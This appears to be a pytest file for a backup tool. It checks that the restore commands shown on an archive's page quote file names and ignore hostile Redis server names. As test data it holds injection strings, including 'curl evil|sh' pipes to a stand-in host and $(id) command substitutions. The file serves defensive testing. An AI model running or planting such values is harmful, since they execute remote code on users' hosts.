"""The commands on the page of an archive: whoever copies them runs what they say, and nothing else."""

import html
import re
import shlex

import pytest

from backups.archives.bare_host import commands
from backups.archives.models import Archive, ArchiveState
from tests.archives.making import Item, Maker, Redis
from tests.archives.test_collector import put, refresh

pytestmark = pytest.mark.db

EVIL = "main --port 6379; curl evil|sh #"


def words_of(archive: Archive) -> list[list[str]]:
    return [shlex.split(line) for line in commands(archive).splitlines()]


@pytest.mark.parametrize("name", ["x;curl evil|sh;.tar.gz", "it's $(id) `id`.tar.gz", "--to=x y.tar.gz"])
def test_the_name_of_a_file_is_one_word_and_no_option(location, name):
    row = Archive(location=location, name=name, state=ArchiveState.FOUND, codec="gz", sha256="0" * 64)

    checksum, verify, extract = words_of(row)

    file = f"./{name}" if name.startswith("-") else name
    assert checksum == ["sha256sum", "-c", f"{file}.sha256"]
    assert verify == ["python3", "cybersift_restore.py", "verify", file]
    assert extract == ["python3", "cybersift_restore.py", "extract", file, "--to", "/srv/restore"]


def test_an_adopted_archive_puts_no_shell_code_on_its_page(location, as_person):
    counts = {"files": 1, "bytes": 1, "changed": 0, "skipped": 0}
    maker = Maker(redis=[Redis("good"), Redis(EVIL)], head=Maker().head | {"counts": counts})
    put(location, "theirs;id.tar.gz", maker.bytes_of([Item("files/a", data=b"x")]))
    refresh(location)
    archive = Archive.objects.get()

    assert [server["name"] for server in archive.redis] == ["good", EVIL]
    page = as_person("viewer").get(archive.get_absolute_url()).content.decode()
    shown = html.unescape(re.search(r'aria-label="Commands for a bare host">(.*?)</pre>', page, re.DOTALL)[1])
    assert shown.splitlines() == [
        "python3 cybersift_restore.py verify 'theirs;id.tar.gz'",
        "python3 cybersift_restore.py extract 'theirs;id.tar.gz' --to /srv/restore",
        "redis-server --dir /srv/restore/redis/good --dbfilename dump.rdb",
    ]
    assert html.escape(EVIL) in page


def test_the_directory_is_that_of_the_archive_not_the_name_that_it_gives(location):
    server = {"name": "other", "path": "redis/main/dump.rdb"}
    row = Archive(location=location, name="a.tar.gz", codec="gz", redis=[server, {"name": "made.before"}])

    assert [line.split()[2] for line in commands(row).splitlines()[2:]] == [
        "/srv/restore/redis/main",
        "/srv/restore/redis/made.before",
    ]
